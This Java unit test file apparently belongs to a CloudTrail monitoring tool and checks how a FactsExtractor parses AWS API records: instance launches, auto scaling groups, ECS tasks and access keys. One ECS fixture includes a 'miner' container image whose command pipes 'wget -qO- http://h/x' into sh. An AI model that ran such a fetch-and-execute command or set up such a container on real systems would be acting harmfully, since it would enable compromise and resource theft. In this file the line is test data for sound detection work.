package io.trailsentry.cloudtrail;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import org.junit.jupiter.api.Test;

class FactsExtractorTest {
    private static JsonNode json(String s) throws Exception {
        return TestRecords.MAPPER.readTree(s.replace('\'', '"'));
    }

    @Test
    void runInstancesRequestAndResponse() throws Exception {
        RequestFacts f =
                FactsExtractor.extract(
                        json(
                                "{'instancesSet':{'items':[{'imageId':'ami-1','minCount':10,'maxCount':10}]},"
                                        + "'instanceType':'g4dn.12xlarge','disableApiTermination':true}"),
                        json(
                                "{'instancesSet':{'items':[{'instanceId':'i-1'},{'instanceId':'i-2'}]}}"));
        assertThat(f.instanceTypes).containsExactly("g4dn.12xlarge");
        assertThat(f.instanceCount).isEqualTo(10);
        assertThat(f.disableApiTermination).isTrue();
        assertThat(f.instanceIds).containsExactly("i-1", "i-2");
    }

    @Test
    void modifyInstanceAttributeValueObject() throws Exception {
        RequestFacts on =
                FactsExtractor.extract(
                        json("{'instanceId':'i-9','disableApiTermination':{'value':true}}"), null);
        assertThat(on.disableApiTermination).isTrue();
        assertThat(on.instanceIds).containsExactly("i-9");
        RequestFacts off =
                FactsExtractor.extract(json("{'disableApiTermination':{'value':false}}"), null);
        assertThat(off.disableApiTermination).isFalse();
    }

    @Test
    void autoScalingGroupSizesAndMixedInstanceTypes() throws Exception {
        RequestFacts f =
                FactsExtractor.extract(
                        json(
                                "{'autoScalingGroupName':'g','minSize':20,'maxSize':999,'desiredCapacity':'20',"
                                        + "'newInstancesProtectedFromScaleIn':true,"
                                        + "'mixedInstancesPolicy':{'launchTemplate':{'overrides':"
                                        + "[{'instanceType':'p3.16xlarge'},{'instanceType':'g5.12xlarge'}]}}}"),
                        null);
        assertThat(f.autoScalingGroupName).isEqualTo("g");
        assertThat(f.requestedCapacity()).isEqualTo(999);
        assertThat(f.desiredCapacity).isEqualTo(20);
        assertThat(f.protectedFromScaleIn).isTrue();
        assertThat(f.instanceTypes).containsExactly("p3.16xlarge", "g5.12xlarge");
    }

    @Test
    void ecsTaskDefinitionImagesCommandsAndSize() throws Exception {
        RequestFacts f =
                FactsExtractor.extract(
                        json(
                                "{'family':'w','cpu':'4096','memory':'8192','containerDefinitions':["
                                        + "{'image':'docker.io/x/miner:latest','entryPoint':['sh','-c'],"
                                        + "'command':['wget -qO- http://h/x | sh']}]}"),
                        json(
                                "{'taskDefinition':{'taskDefinitionArn':'arn:aws:ecs:r:1:task-definition/w:1'}}"));
        assertThat(f.images).containsExactly("docker.io/x/miner:latest");
        assertThat(f.containerCommands).isEqualTo("sh -c wget -qO- http://h/x | sh");
        assertThat(f.cpu).isEqualTo(4096);
        assertThat(f.memory).isEqualTo(8192);
        assertThat(f.taskDefinition).isEqualTo("arn:aws:ecs:r:1:task-definition/w:1");
    }

    @Test
    void createFleetCapacityAndCreatedAccessKey() throws Exception {
        RequestFacts fleet =
                FactsExtractor.extract(
                        json(
                                "{'CreateFleetRequest':{'TargetCapacitySpecification':{'TotalTargetCapacity':40},"
                                        + "'LaunchTemplateConfigs':{'Overrides':{'InstanceType':'p3.8xlarge'}}}}"),
                        null);
        assertThat(fleet.instanceCount).isEqualTo(40);
        assertThat(fleet.instanceTypes).containsExactly("p3.8xlarge");

        RequestFacts key =
                FactsExtractor.extract(
                        json("{'userName':'u'}"), json("{'accessKey':{'accessKeyId':'AKIANEW'}}"));
        assertThat(key.userName).isEqualTo("u");
        assertThat(key.createdAccessKeyId).isEqualTo("AKIANEW");
    }

    @Test
    void hostileRequestsAreBounded() throws Exception {
        StringBuilder sb = new StringBuilder("{'items':[");
        for (int i = 0; i < 10_000; i++) {
            sb.append(i == 0 ? "" : ",").append("{'instanceType':'t").append(i).append("'}");
        }
        RequestFacts f =
                FactsExtractor.extract(json(sb + "],'roleName':'" + "r".repeat(5000) + "'}"), null);
        assertThat(f.instanceTypes).hasSize(FactsExtractor.MAX_ITEMS);
        assertThat(f.roleName).isNull(); // beyond the node budget: not visited
        RequestFacts longName =
                FactsExtractor.extract(json("{'roleName':'" + "r".repeat(5000) + "'}"), null);
        assertThat(longName.roleName.length()).isLessThanOrEqualTo(FactsExtractor.MAX_STRING);
    }

    @Test
    void updateServiceNamesItsServiceInTheServiceField() throws Exception {
        RequestFacts f =
                FactsExtractor.extract(
                        json(
                                "{'cluster':'arn:aws:ecs:us-east-1:111122223333:cluster/payments',"
                                        + "'service':'arn:aws:ecs:us-east-1:111122223333:service/payments/api',"
                                        + "'desiredCount':30}"),
                        json(
                                "{'service':{'serviceName':'api','desiredCount':30,"
                                        + "'clusterArn':'arn:aws:ecs:us-east-1:111122223333:cluster/payments'}}"));
        assertThat(f.ecsServiceId()).isEqualTo("payments/api");
        assertThat(f.instanceCount).isEqualTo(30);
    }

    @Test
    void runTaskResponseNamesTheTasksItStarted() throws Exception {
        RequestFacts f =
                FactsExtractor.extract(
                        json("{'cluster':'payments','taskDefinition':'worker:1','count':2}"),
                        json(
                                "{'tasks':[{'taskArn':'arn:aws:ecs:us-east-1:1:task/payments/a'},"
                                        + "{'taskArn':'arn:aws:ecs:us-east-1:1:task/payments/b'}],'failures':[]}"));
        assertThat(f.taskArns)
                .containsExactly(
                        "arn:aws:ecs:us-east-1:1:task/payments/a",
                        "arn:aws:ecs:us-east-1:1:task/payments/b");
        RequestFacts requestOnly =
                FactsExtractor.extract(
                        json("{'taskArn':'arn:aws:ecs:us-east-1:1:task/x/y'}"), null);
        assertThat(requestOnly.taskArns).as("a request naming a task started none").isNull();
    }

    @Test
    void createClusterAnsweredWithAnExistingClusterCountsItsWorkload() throws Exception {
        RequestFacts fresh =
                FactsExtractor.extract(
                        json("{'clusterName':'miner'}"),
                        json(
                                "{'cluster':{'clusterName':'miner','status':'ACTIVE',"
                                        + "'registeredContainerInstancesCount':0,'runningTasksCount':0,"
                                        + "'pendingTasksCount':0,'activeServicesCount':0}}"));
        assertThat(fresh.ecsWorkload).isZero();
        RequestFacts existing =
                FactsExtractor.extract(
                        json("{'clusterName':'payments'}"),
                        json(
                                "{'cluster':{'clusterName':'payments','status':'ACTIVE',"
                                        + "'runningTasksCount':12,'activeServicesCount':3}}"));
        assertThat(existing.ecsWorkload).isEqualTo(15);
        assertThat(FactsExtractor.extract(json("{'clusterName':'x'}"), null).ecsWorkload)
                .isEqualTo(-1);
    }

    @Test
    void launchTemplateVersionFromTheResponse() throws Exception {
        RequestFacts f =
                FactsExtractor.extract(
                        json(
                                "{'CreateLaunchTemplateVersionRequest':{'LaunchTemplateName':'web',"
                                        + "'LaunchTemplateData':{'InstanceType':'p3.16xlarge'}}}"),
                        json(
                                "{'CreateLaunchTemplateVersionResponse':{'launchTemplateVersion':"
                                        + "{'launchTemplateName':'web','versionNumber':7}}}"));
        assertThat(f.launchTemplateName).isEqualTo("web");
        assertThat(f.launchTemplateVersion).isEqualTo(7);
        assertThat(f.instanceTypes).containsExactly("p3.16xlarge");
    }
}
